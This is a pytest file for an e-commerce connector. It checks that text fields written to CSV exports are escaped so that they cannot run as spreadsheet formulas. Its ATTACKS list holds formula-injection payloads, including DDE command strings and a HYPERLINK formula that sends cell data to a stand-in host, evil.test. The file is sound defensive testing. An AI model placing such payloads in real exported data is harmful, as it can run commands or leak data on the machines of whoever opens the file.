"""Text written into the outbox CSV never runs as a spreadsheet formula.

A shopper chooses their name, a merchant the product names: a cell such as
``=cmd|' /C calc'!A0`` would run in the spreadsheet the ERP clerk opens the
CSV with.  Text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is written with a leading apostrophe (OWASP's advice); amounts stay
numbers, and the JSON document keeps every value exactly.
"""

from __future__ import annotations

import csv
import dataclasses
import json
from decimal import Decimal
from pathlib import Path

import pytest
from connector_samples import credit, customer, file_feed_settings, line, order
from hypothesis import given, settings
from hypothesis import strategies as st

from storebridge.connectors.file_feed.feed import FileFeed

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.test?"&A1,"click")',
]


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _write(tmp_path: Path, text: str) -> tuple[FileFeed, str]:
    feed = FileFeed(file_feed_settings(tmp_path))
    buyer = dataclasses.replace(customer(), first_name=text, last_name="")
    product = dataclasses.replace(line("TEE-RED-M", 2, "19.99"), name=text)
    document = dataclasses.replace(
        order(77, (product,), buyer=buyer), payment_method=text, transaction_id=text
    )
    return feed, feed.write_order(document).pos_ref


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_in_any_text_field_is_written_as_inert_text(tmp_path: Path, attack: str) -> None:
    feed, ref = _write(tmp_path, attack)
    outbox = feed.settings.outbox

    header, product = _csv_rows(outbox / f"{ref}.csv")[:2]

    assert header["name"] == "'" + attack.strip()  # first and last name, trimmed
    for cell in (header["payment_method"], header["transaction_id"]):
        assert cell == "'" + attack
    assert product["description"] == "'" + attack
    assert (product["quantity"], product["unit_price"]) == ("2", "19.99")
    envelope = json.loads((outbox / f"{ref}.json").read_text(encoding="utf-8"))
    assert envelope["order"]["customer"]["first_name"] == attack  # the JSON stays exact


def test_negative_amounts_of_a_credit_stay_numbers(tmp_path: Path) -> None:
    feed = FileFeed(file_feed_settings(tmp_path))
    original = order(5)
    document = dataclasses.replace(
        credit(original, "main__5"),
        lines=(line("TEE-RED-M", -1, "19.99"),),
        total=Decimal("-19.99"),  # a credit balances like any document
        reason="-discount",
    )

    ref = feed.write_credit(document)

    header, product = _csv_rows(feed.settings.outbox / "credits" / f"{ref}.csv")[:2]
    assert header["description"] == "'-discount"
    assert (product["quantity"], product["total"]) == ("-1", "-19.99")


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=40))
def test_no_text_cell_of_the_csv_can_start_a_formula(
    tmp_path_factory: pytest.TempPathFactory, text: str
) -> None:
    feed, ref = _write(tmp_path_factory.mktemp("formula"), text)

    rows = _csv_rows(feed.settings.outbox / f"{ref}.csv")

    for row in rows:
        for column in ("name", "description", "payment_method", "transaction_id"):
            cell = row.get(column) or ""
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert rows[0]["name"] in (text.strip(), "'" + text.strip())
